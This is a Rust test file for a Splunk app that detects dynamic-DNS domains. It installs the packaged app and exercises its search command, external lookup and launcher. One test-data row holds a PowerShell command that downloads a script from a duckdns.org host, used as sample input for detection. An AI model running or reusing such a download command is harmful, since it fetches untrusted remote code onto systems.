@@ -1,0 +1,707 @@
+//! The packaged Splunk app, installed and run as splunkd runs it.
+//!
+//! `scripts/package.sh` writes `dist/dynamicdns-<version>.tgz`. These tests
+//! check the archive (top folder, modes, owner, gzip header), unpack it into
+//! a scratch `$SPLUNK_HOME/etc/apps/`, and then
+//!
+//! - run the command exactly as `commands.conf` declares it — the program
+//!   `filename` looked up in `<app>/linux_x86_64/bin/` then `<app>/bin/`,
+//!   with `command.arg.<N>` as its arguments, in a dispatch folder as its
+//!   working directory — through a lock-step SCP v2 conversation (getinfo,
+//!   then execute requests with DNS rows), as splunkd does;
+//! - run the external lookup exactly as `transforms.conf` declares it
+//!   (`external_cmd` in `<app>/bin/`, CSV with the `fields_list` header on
+//!   stdin);
+//! - check that the installed app's `lookups/` (local zones, allowlist) are
+//!   found by the binary behind the launcher;
+//! - run the aarch64 binary the same way under qemu when the project's
+//!   scripts have set qemu up (target/tools/qemu-aarch64/run);
+//! - run the launcher where no binary fits, and read its protocol error.
+//!
+//! Without a package the tests print a note and pass, unless
+//! `DYNAMICDNS_REQUIRE_PACKAGE` is set (CI sets it after packaging).
+//! `DYNAMICDNS_REQUIRE_AARCH64=1` also requires the aarch64 binary.
+
+use std::collections::BTreeMap;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, ExitStatus, Stdio};
+use std::sync::mpsc::{self, Receiver};
+use std::time::{Duration, Instant};
+
+use serde_json::{json, Value};
+
+const APP: &str = "dynamicdns";
+const TIMEOUT: Duration = Duration::from_secs(60);
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+/// The package, or `None` (after a printed note) when there is none and
+/// none is required.
+fn package() -> Option<PathBuf> {
+    let tgz = root().join(format!("dist/{APP}-{}.tgz", env!("CARGO_PKG_VERSION")));
+    if tgz.is_file() {
+        return Some(tgz);
+    }
+    if std::env::var_os("DYNAMICDNS_REQUIRE_PACKAGE").is_some() {
+        panic!(
+            "{} is missing (DYNAMICDNS_REQUIRE_PACKAGE is set): run scripts/package.sh",
+            tgz.display()
+        );
+    }
+    // Written past the test harness's output capture, once, so that a
+    // skipped run says so in the log.
+    static NOTE: std::sync::Once = std::sync::Once::new();
+    NOTE.call_once(|| {
+        let _ = writeln!(
+            std::io::stderr().lock(),
+            "note: {} not found; skipping the app install tests (run scripts/package.sh, \
+             or set DYNAMICDNS_REQUIRE_PACKAGE=1 to make this a failure)",
+            tgz.display()
+        );
+    });
+    None
+}
+
+fn require_aarch64() -> bool {
+    std::env::var("DYNAMICDNS_REQUIRE_AARCH64").is_ok_and(|v| v == "1")
+}
+
+// ---------------------------------------------------------------------------
+// The archive
+
+/// One entry of a tar archive.
+#[derive(Debug)]
+struct Entry {
+    name: String,
+    mode: u32,
+    uid: u64,
+    gid: u64,
+    mtime: u64,
+    kind: u8,
+}
+
+fn octal(field: &[u8]) -> u64 {
+    let s = std::str::from_utf8(field).unwrap().trim_matches(|c: char| c == '\0' || c == ' ');
+    if s.is_empty() {
+        0
+    } else {
+        u64::from_str_radix(s, 8).unwrap_or_else(|_| panic!("bad octal field {s:?}"))
+    }
+}
+
+/// Lists a gzip-compressed tar archive (ustar/GNU headers, GNU long names).
+fn list_tgz(tgz: &Path) -> Vec<Entry> {
+    let mut data = Vec::new();
+    flate2::read::GzDecoder::new(std::fs::File::open(tgz).unwrap())
+        .read_to_end(&mut data)
+        .unwrap();
+    let mut entries = Vec::new();
+    let mut pos = 0;
+    let mut long_name: Option<String> = None;
+    while pos + 512 <= data.len() {
+        let h = &data[pos..pos + 512];
+        if h.iter().all(|&b| b == 0) {
+            break;
+        }
+        let cstr = |f: &[u8]| {
+            String::from_utf8(f.iter().take_while(|&&b| b != 0).copied().collect()).unwrap()
+        };
+        let size = octal(&h[124..136]) as usize;
+        let kind = h[156];
+        let body = pos + 512;
+        pos = body + size.div_ceil(512) * 512;
+        if kind == b'L' {
+            long_name = Some(cstr(&data[body..body + size]));
+            continue;
+        }
+        let mut name = cstr(&h[0..100]);
+        if &h[257..262] == b"ustar" && h[345] != 0 && &h[257..263] == b"ustar\0" {
+            name = format!("{}/{}", cstr(&h[345..500]), name);
+        }
+        entries.push(Entry {
+            name: long_name.take().unwrap_or(name),
+            mode: octal(&h[100..108]) as u32,
+            uid: octal(&h[108..116]),
+            gid: octal(&h[116..124]),
+            mtime: octal(&h[136..148]),
+            kind,
+        });
+    }
+    entries
+}
+
+#[test]
+fn the_archive_is_rooted_at_the_app_id_with_splunk_modes() {
+    let Some(tgz) = package() else { return };
+    let gz = std::fs::read(&tgz).unwrap();
+    assert_eq!(&gz[..3], &[0x1f, 0x8b, 8], "gzip");
+    assert_eq!(gz[3] & 0x08, 0, "gzip -n: no file name in the header");
+    assert_eq!(&gz[4..8], &[0, 0, 0, 0], "gzip -n: no time stamp in the header");
+    let entries = list_tgz(&tgz);
+    assert!(!entries.is_empty());
+    let mut problems = Vec::new();
+    let mtime = entries[0].mtime;
+    for e in &entries {
+        let parts: Vec<&str> = e.name.trim_end_matches('/').split('/').collect();
+        if parts[0] != APP {
+            problems.push(format!("{}: not under {APP}/", e.name));
+        }
+        if parts.iter().any(|p| p.starts_with('.') || p.is_empty()) {
+            problems.push(format!("{}: dotfile or ./ path", e.name));
+        }
+        if (e.uid, e.gid) != (0, 0) {
+            problems.push(format!("{}: owner {}:{}", e.name, e.uid, e.gid));
+        }
+        let is_dir = e.kind == b'5';
+        if !is_dir && e.kind != b'0' {
+            problems.push(format!("{}: type {:?}", e.name, e.kind as char));
+        }
+        let want = if is_dir || parts.get(1) == Some(&"bin") { 0o755 } else { 0o644 };
+        if e.mode & 0o7777 != want {
+            problems.push(format!("{}: mode {:o}, want {want:o}", e.name, e.mode & 0o7777));
+        }
+        if e.mtime != mtime {
+            problems.push(format!("{}: mtime differs", e.name));
+        }
+    }
+    let names: Vec<&str> = entries.iter().map(|e| e.name.trim_end_matches('/')).collect();
+    let mut sorted = names.clone();
+    sorted.sort_by(|a, b| a.split('/').cmp(b.split('/')));
+    if names != sorted {
+        problems.push("entries are not sorted by name".to_string());
+    }
+    for f in [
+        "app.manifest",
+        "README.md",
+        "LICENSE",
+        "bin/dynamicdns.sh",
+        "bin/x86_64/dynamicdns",
+        "default/app.conf",
+        "default/commands.conf",
+        "default/transforms.conf",
+        "lookups/dynamic_dns_providers.csv",
+        "lookups/dynamic_dns_providers_local.csv",
+        "lookups/dynamic_dns_allowlist.csv",
+        "metadata/default.meta",
+    ] {
+        if !names.contains(&format!("{APP}/{f}").as_str()) {
+            problems.push(format!("{APP}/{f} missing"));
+        }
+    }
+    if require_aarch64() && !names.contains(&format!("{APP}/bin/aarch64/dynamicdns").as_str()) {
+        problems.push("bin/aarch64/dynamicdns missing (DYNAMICDNS_REQUIRE_AARCH64=1)".to_string());
+    }
+    assert!(problems.is_empty(), "{}", problems.join("\n"));
+}
+
+// ---------------------------------------------------------------------------
+// A scratch Splunk installation
+
+/// `$SPLUNK_HOME` in a scratch folder, removed on drop.
+struct SplunkHome {
+    home: PathBuf,
+}
+
+impl SplunkHome {
+    /// Installs the package into `$SPLUNK_HOME/etc/apps/` as `splunk
+    /// install app` does: unpack the archive there.
+    fn install(tgz: &Path, test: &str) -> SplunkHome {
+        let home = std::env::temp_dir()
+            .join(format!("dynamicdns-app-install-{}-{test}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&home);
+        let apps = home.join("etc/apps");
+        std::fs::create_dir_all(&apps).unwrap();
+        std::fs::create_dir_all(home.join("var/run/splunk/dispatch/1700000000.7")).unwrap();
+        let status = Command::new("tar")
+            .arg("-xzf")
+            .arg(tgz)
+            .arg("-C")
+            .arg(&apps)
+            .status()
+            .expect("tar runs");
+        assert!(status.success(), "tar -xzf {}", tgz.display());
+        SplunkHome { home }
+    }
+
+    fn app(&self) -> PathBuf {
+        self.home.join("etc/apps").join(APP)
+    }
+
+    fn dispatch_dir(&self) -> PathBuf {
+        self.home.join("var/run/splunk/dispatch/1700000000.7")
+    }
+
+    fn conf(&self, file: &str) -> BTreeMap<String, BTreeMap<String, String>> {
+        parse_conf(&std::fs::read_to_string(self.app().join("default").join(file)).unwrap())
+    }
+
+    /// The command line splunkd runs for `| dynamicdns`: `filename` from
+    /// `<app>/linux_x86_64/bin/` or else `<app>/bin/`, then `command.arg.<N>`
+    /// in order of N.
+    fn command_argv(&self) -> Vec<String> {
+        let conf = self.conf("commands.conf");
+        let stanza = &conf[APP];
+        assert_eq!(stanza["chunked"], "true");
+        let filename = &stanza["filename"];
+        let program = [self.app().join("linux_x86_64/bin"), self.app().join("bin")]
+            .iter()
+            .map(|d| d.join(filename))
+            .find(|p| p.is_file())
+            .unwrap_or_else(|| {
+                panic!("commands.conf filename {filename} is not in the app's bin/")
+            });
+        let mut args: Vec<(u32, String)> = stanza
+            .iter()
+            .filter_map(|(k, v)| {
+                k.strip_prefix("command.arg.").map(|n| (n.parse().unwrap(), v.clone()))
+            })
+            .collect();
+        args.sort();
+        std::iter::once(program.display().to_string())
+            .chain(args.into_iter().map(|(_, v)| v))
+            .collect()
+    }
+
+    /// The external lookup's command line and fields, from transforms.conf.
+    fn lookup_argv(&self, stanza: &str) -> (Vec<String>, Vec<String>) {
+        let conf = self.conf("transforms.conf");
+        let s = &conf[stanza];
+        assert_eq!(s["external_type"], "executable");
+        let mut words = s["external_cmd"].split_whitespace().map(str::to_string);
+        let program = self.app().join("bin").join(words.next().unwrap());
+        assert!(program.is_file(), "external_cmd program {} exists", program.display());
+        let argv = std::iter::once(program.display().to_string()).chain(words).collect();
+        let fields = s["fields_list"].split(',').map(|f| f.trim().to_string()).collect();
+        (argv, fields)
+    }
+
+    /// A process started as splunkd starts search commands: in the dispatch
+    /// folder, with SPLUNK_HOME set and Splunk's library path.
+    fn spawn(&self, argv: &[String]) -> Child {
+        Command::new(&argv[0])
+            .args(&argv[1..])
+            .current_dir(self.dispatch_dir())
+            .env("SPLUNK_HOME", &self.home)
+            .env("LD_LIBRARY_PATH", self.home.join("lib"))
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap_or_else(|e| panic!("cannot run {argv:?}: {e}"))
+    }
+}
+
+impl Drop for SplunkHome {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.home);
+    }
+}
+
+/// Minimal .conf reader (comments, stanzas, `key = value`, `\` lines).
+fn parse_conf(text: &str) -> BTreeMap<String, BTreeMap<String, String>> {
+    let mut out: BTreeMap<String, BTreeMap<String, String>> = BTreeMap::new();
+    let mut current = String::new();
+    let mut lines = text.lines();
+    while let Some(line) = lines.next() {
+        let t = line.trim();
+        if t.is_empty() || t.starts_with('#') {
+            continue;
+        }
+        if let Some(name) = t.strip_prefix('[').and_then(|t| t.strip_suffix(']')) {
+            current = name.to_string();
+            out.entry(current.clone()).or_default();
+            continue;
+        }
+        let (k, v) = line.split_once('=').expect("key = value");
+        let mut v = v.trim().to_string();
+        while v.ends_with('\\') {
+            v.pop();
+            v.push('\n');
+            v.push_str(lines.next().unwrap_or(""));
+        }
+        out.entry(current.clone()).or_default().insert(k.trim().to_string(), v.trim().to_string());
+    }
+    out
+}
+
+// ---------------------------------------------------------------------------
+// SCP v2, lock-step, as splunkd speaks it
+
+fn chunk(metadata: &Value, body: &[u8]) -> Vec<u8> {
+    let meta = serde_json::to_vec(metadata).unwrap();
+    let mut v = format!("chunked 1.0,{},{}\n", meta.len(), body.len()).into_bytes();
+    v.extend_from_slice(&meta);
+    v.extend_from_slice(body);
+    v
+}
+
+fn getinfo(args: &[&str], dispatch_dir: &Path) -> Vec<u8> {
+    chunk(
+        &json!({
+            "action": "getinfo",
+            "preview": false,
+            "streaming_command_will_restart": false,
+            "searchinfo": {
+                "args": args,
+                "raw_args": args,
+                "dispatch_dir": dispatch_dir.display().to_string(),
+                "sid": "1700000000.7",
+                "app": "search",
+                "owner": "admin",
+                "username": "admin",
+                "session_key": "test-session-key",
+                "splunkd_uri": "https://127.0.0.1:8089",
+                "splunk_version": "9.2.1",
+                "search": "search%20index%3Ddns%20%7C%20dynamicdns",
+                "earliest_time": "0",
+                "latest_time": "0",
+                "command": "dynamicdns",
+                "maxresultrows": 50000
+            }
+        }),
+        b"",
+    )
+}
+
+/// Reads chunks from the command's stdout on a thread.
+fn chunk_reader(stdout: impl Read + Send + 'static) -> Receiver<Result<(Value, Vec<u8>), String>> {
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        let mut r = BufReader::new(stdout);
+        loop {
+            let mut header = Vec::new();
+            match r.read_until(b'\n', &mut header) {
+                Ok(0) => return,
+                Ok(_) => {}
+                Err(e) => {
+                    let _ = tx.send(Err(e.to_string()));
+                    return;
+                }
+            }
+            let text = String::from_utf8_lossy(&header).to_string();
+            let sizes = text
+                .strip_prefix("chunked 1.0,")
+                .and_then(|s| s.strip_suffix('\n'))
+                .and_then(|s| s.split_once(','))
+                .and_then(|(m, b)| Some((m.parse::<usize>().ok()?, b.parse::<usize>().ok()?)));
+            let Some((m, b)) = sizes else {
+                let _ = tx.send(Err(format!("bad chunk header {text:?}")));
+                return;
+            };
+            let mut meta = vec![0; m];
+            let mut body = vec![0; b];
+            if let Err(e) = r.read_exact(&mut meta).and_then(|_| r.read_exact(&mut body)) {
+                let _ = tx.send(Err(format!("truncated chunk: {e}")));
+                return;
+            }
+            let meta: Value = match serde_json::from_slice(&meta) {
+                Ok(v) => v,
+                Err(e) => {
+                    let _ = tx.send(Err(format!("metadata is not JSON: {e}")));
+                    return;
+                }
+            };
+            if tx.send(Ok((meta, body))).is_err() {
+                return;
+            }
+        }
+    });
+    rx
+}
+
+fn wait(child: &mut Child) -> ExitStatus {
+    let start = Instant::now();
+    loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            return status;
+        }
+        if start.elapsed() > TIMEOUT {
+            let _ = child.kill();
+            panic!("the command did not exit");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+fn stderr_of(child: &mut Child) -> String {
+    let mut s = String::new();
+    if let Some(mut e) = child.stderr.take() {
+        let _ = e.read_to_string(&mut s);
+    }
+    s
+}
+
+/// One SCP session: getinfo, then one execute request per body (the last
+/// one `finished`), each reply read before the next request is written;
+/// then stdin is closed and the process must exit 0 with nothing more on
+/// stdout. Returns the execute replies' bodies, parsed as CSV.
+fn scp_session(
+    home: &SplunkHome,
+    argv: &[String],
+    args: &[&str],
+    bodies: &[&[u8]],
+) -> Vec<Vec<BTreeMap<String, String>>> {
+    let mut child = home.spawn(argv);
+    let mut stdin = child.stdin.take().unwrap();
+    let replies = chunk_reader(child.stdout.take().unwrap());
+    let next = |what: &str| match replies.recv_timeout(TIMEOUT) {
+        Ok(Ok(reply)) => reply,
+        Ok(Err(e)) => panic!("{what}: {e}"),
+        Err(_) => panic!("{what}: no reply within {TIMEOUT:?}"),
+    };
+    stdin.write_all(&getinfo(args, &home.dispatch_dir())).unwrap();
+    stdin.flush().unwrap();
+    let (meta, body) = next("getinfo reply");
+    assert_eq!(meta.get("type"), Some(&json!("streaming")), "getinfo reply {meta}");
+    assert!(meta.get("error").is_none(), "getinfo reply {meta}");
+    assert!(body.is_empty());
+    let mut out = Vec::new();
+    for (i, body) in bodies.iter().enumerate() {
+        let finished = i + 1 == bodies.len();
+        stdin
+            .write_all(&chunk(&json!({"action": "execute", "finished": finished}), body))
+            .unwrap();
+        stdin.flush().unwrap();
+        let (meta, reply) = next("execute reply");
+        assert_eq!(meta.get("finished"), Some(&json!(finished)), "execute reply {meta}");
+        assert!(meta.get("error").is_none(), "execute reply {meta}");
+        out.push(parse_csv(&reply));
+    }
+    drop(stdin);
+    let status = wait(&mut child);
+    let stderr = stderr_of(&mut child);
+    assert!(status.success(), "exit {status}; stderr: {stderr}");
+    assert!(replies.recv_timeout(Duration::from_secs(5)).is_err(), "nothing after the last reply");
+    out
+}
+
+fn parse_csv(body: &[u8]) -> Vec<BTreeMap<String, String>> {
+    let mut r = csv::ReaderBuilder::new().from_reader(body);
+    let headers = r.headers().unwrap().clone();
+    r.records()
+        .map(|rec| {
+            let rec = rec.unwrap();
+            headers.iter().zip(rec.iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect()
+        })
+        .collect()
+}
+
+/// splunkd-style DNS rows: `__mv_` twin for the multivalue answer (CNAME
+/// chain), CRLF-free, quoted where needed.
+const DNS_ROWS: &[u8] = b"_time,src,query,answer,__mv_answer\r\n\
+1700000000,10.1.4.22,update7.duckdns.org,203.0.113.45,\r\n\
+1700000001,10.1.7.3,www.example.com,93.184.216.34,\r\n\
+1700000002,10.1.9.8,cdn.example.net,\"edge.example.net\nhome.ddns.net\",$edge.example.net$;$home.ddns.net$\r\n\
+1700000003,10.1.9.9,ok.duckdns.org,198.51.100.1,\r\n\
+1700000004,10.1.9.9,a.corp-dyn.example,198.51.100.2,\r\n\
+1700000005,10.1.9.9,duckdns.org,99.79.143.35,\r\n";
+
+/// The app's local files, as an admin would edit them.
+fn tune_lookups(home: &SplunkHome) {
+    let lookups = home.app().join("lookups");
+    std::fs::write(
+        lookups.join("dynamic_dns_allowlist.csv"),
+        "host,comment\nok.duckdns.org,our VPN\n",
+    )
+    .unwrap();
+    std::fs::write(
+        lookups.join("dynamic_dns_providers_local.csv"),
+        "zone,provider,category,tier,sources\ncorp-dyn.example,Corp DDNS,ddns,core,local\n",
+    )
+    .unwrap();
+}
+
+fn check_dns_verdicts(rows: &[BTreeMap<String, String>]) {
+    let verdicts: Vec<(&str, &str, &str, &str)> = rows
+        .iter()
+        .map(|r| {
+            (
+                r["query"].as_str(),
+                r["isDynDNS"].as_str(),
+                r["provider"].as_str(),
+                r["dyndns_zone"].as_str(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        verdicts,
+        [
+            ("update7.duckdns.org", "True", "DuckDNS", "duckdns.org"),
+            ("www.example.com", "False", "", ""),
+            ("cdn.example.net", "True", "No-IP", "ddns.net"),
+            ("ok.duckdns.org", "False", "", ""),
+            ("a.corp-dyn.example", "True", "Corp DDNS", "corp-dyn.example"),
+            ("duckdns.org", "False", "", ""),
+        ]
+    );
+    // Input fields come back unchanged.
+    assert_eq!(rows[2]["answer"], "edge.example.net\nhome.ddns.net");
+    assert_eq!(rows[0]["src"], "10.1.4.22");
+}
+
+#[test]
+fn the_command_runs_as_commands_conf_declares_it() {
+    let Some(tgz) = package() else { return };
+    let home = SplunkHome::install(&tgz, "scp");
+    tune_lookups(&home);
+    let argv = home.command_argv();
+    assert!(argv[0].ends_with("/bin/dynamicdns.sh"), "{argv:?}");
+    assert_eq!(argv[1..], ["scp"]);
+    let header_only: &[u8] = b"_time,src,query,answer,__mv_answer\r\n";
+    let replies =
+        scp_session(&home, &argv, &["field=query,answer"], &[DNS_ROWS, header_only, b""]);
+    check_dns_verdicts(&replies[0]);
+    assert!(replies[1].is_empty() && replies[2].is_empty());
+    // mode=text over free text, tier=core.
+    let text: &[u8] =
+        b"_time,CommandLine\n1,\"powershell iwr http://x.duckdns.org/a.ps1\"\n2,notepad.exe\n";
+    let replies =
+        scp_session(&home, &argv, &["field=CommandLine", "mode=text", "tier=core"], &[text]);
+    let flags: Vec<&str> = replies[0].iter().map(|r| r["isDynDNS"].as_str()).collect();
+    assert_eq!(flags, ["True", "False"]);
+}
+
+#[test]
+fn the_external_lookup_runs_as_transforms_conf_declares_it() {
+    let Some(tgz) = package() else { return };
+    let home = SplunkHome::install(&tgz, "lookup");
+    tune_lookups(&home);
+    let (argv, fields) = home.lookup_argv("dynamicdns");
+    assert_eq!(fields, ["query", "isDynDNS", "provider", "dyndns_zone"]);
+    let mut input = fields.join(",") + "\n";
+    for q in [
+        "update7.duckdns.org",
+        "www.example.com",
+        "ok.duckdns.org",
+        "a.corp-dyn.example",
+        "\"q,uoted\"",
+    ] {
+        input.push_str(&format!("{q},,,\n"));
+    }
+    // A reverse request (only an output set): answered with query=*.
+    input.push_str(",True,,\n");
+    let mut child = home.spawn(&argv);
+    let mut stdin = child.stdin.take().unwrap();
+    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
+    let mut out = String::new();
+    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
+    writer.join().unwrap().unwrap();
+    let status = wait(&mut child);
+    let stderr = stderr_of(&mut child);
+    assert!(status.success(), "exit {status}; stderr: {stderr}");
+    assert_eq!(
+        out,
+        "query,isDynDNS,provider,dyndns_zone\n\
+         update7.duckdns.org,True,DuckDNS,duckdns.org\n\
+         www.example.com,False,,\n\
+         ok.duckdns.org,False,,\n\
+         a.corp-dyn.example,True,Corp DDNS,corp-dyn.example\n\
+         \"q,uoted\",False,,\n\
+         *,True,,\n"
+    );
+}
+
+/// The qemu runner the project's scripts set up, if any.
+fn qemu_aarch64() -> Option<PathBuf> {
+    let tools = std::env::var_os("DYNAMICDNS_TOOLS")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| root().join("target/tools"));
+    let run = tools.join("qemu-aarch64/run");
+    run.is_file().then_some(run)
+}
+
+#[test]
+fn the_aarch64_binary_is_arm_and_runs_the_same_session() {
+    let Some(tgz) = package() else { return };
+    let home = SplunkHome::install(&tgz, "aarch64");
+    let bin = home.app().join("bin/aarch64/dynamicdns");
+    if !bin.is_file() {
+        assert!(
+            !require_aarch64(),
+            "bin/aarch64/dynamicdns missing (DYNAMICDNS_REQUIRE_AARCH64=1)"
+        );
+        eprintln!("note: the package has no aarch64 binary");
+        return;
+    }
+    let elf = std::fs::read(&bin).unwrap();
+    assert_eq!(&elf[..4], b"\x7fELF");
+    assert_eq!(elf[4], 2, "64-bit");
+    assert_eq!(u16::from_le_bytes([elf[18], elf[19]]), 183, "e_machine EM_AARCH64");
+    let Some(qemu) = qemu_aarch64() else {
+        eprintln!("note: no qemu-aarch64 runner (scripts/package.sh sets one up); not running the aarch64 binary");
+        return;
+    };
+    tune_lookups(&home);
+    // As the launcher would on an ARM host: bin/aarch64/dynamicdns scp.
+    let argv = [qemu.display().to_string(), bin.display().to_string(), "scp".to_string()];
+    let replies = scp_session(&home, &argv, &["field=query,answer"], &[DNS_ROWS]);
+    check_dns_verdicts(&replies[0]);
+}
+
+#[test]
+fn the_launcher_reports_a_missing_platform_binary() {
+    let Some(tgz) = package() else { return };
+    let home = SplunkHome::install(&tgz, "noarch");
+    // An app whose bin/ has only the launcher, as on a platform we do not
+    // ship a binary for.
+    for arch in ["x86_64", "aarch64"] {
+        let _ = std::fs::remove_dir_all(home.app().join("bin").join(arch));
+    }
+    let argv = home.command_argv();
+    let mut child = home.spawn(&argv);
+    let mut stdin = child.stdin.take().unwrap();
+    let replies = chunk_reader(child.stdout.take().unwrap());
+    stdin.write_all(&getinfo(&[], &home.dispatch_dir())).unwrap();
+    stdin.flush().unwrap();
+    let (meta, body) =
+        replies.recv_timeout(TIMEOUT).expect("a reply").expect("a well-formed chunk");
+    drop(stdin);
+    assert!(body.is_empty());
+    let error = meta["error"].as_str().expect("error reply");
+    assert!(error.contains("no binary for this platform"), "{error}");
+    assert_eq!(meta["finished"], json!(true));
+    assert_eq!(meta["inspector"]["messages"][0][0], json!("ERROR"));
+    let status = wait(&mut child);
+    assert_eq!(status.code(), Some(1));
+    assert!(stderr_of(&mut child).contains("no binary for this platform"));
+
+    // The external lookup fails with the message on stderr.
+    let (argv, _) = home.lookup_argv("dynamicdns");
+    let out = Command::new(&argv[0]).args(&argv[1..]).stdin(Stdio::null()).output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(out.stdout.is_empty());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("no binary for this platform"));
+}
+
+/// `x.y[.z]` as numbers, for comparing symbol versions.
+fn version_of(v: &str) -> Vec<u32> {
+    v.split('.').map(|p| p.parse().unwrap()).collect()
+}
+
+#[test]
+fn the_binaries_need_at_most_glibc_2_17() {
+    let Some(tgz) = package() else { return };
+    let home = SplunkHome::install(&tgz, "glibc");
+    for arch in ["x86_64", "aarch64"] {
+        let bin = home.app().join("bin").join(arch).join("dynamicdns");
+        if !bin.is_file() {
+            continue;
+        }
+        let out =
+            Command::new("objdump").arg("-T").arg(&bin).output().expect("objdump (binutils) runs");
+        assert!(out.status.success(), "objdump -T {}", bin.display());
+        let text = String::from_utf8_lossy(&out.stdout);
+        let max = text
+            .split(|c: char| c.is_whitespace() || c == '(' || c == ')')
+            .filter_map(|w| w.strip_prefix("GLIBC_"))
+            .filter(|v| !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
+            .map(version_of)
+            .max()
+            .expect("the binary uses versioned glibc symbols");
+        assert!(max <= version_of("2.17"), "bin/{arch}/dynamicdns needs GLIBC_{max:?} > 2.17");
+        eprintln!("bin/{arch}/dynamicdns: highest glibc symbol version {max:?}");
+    }
+}
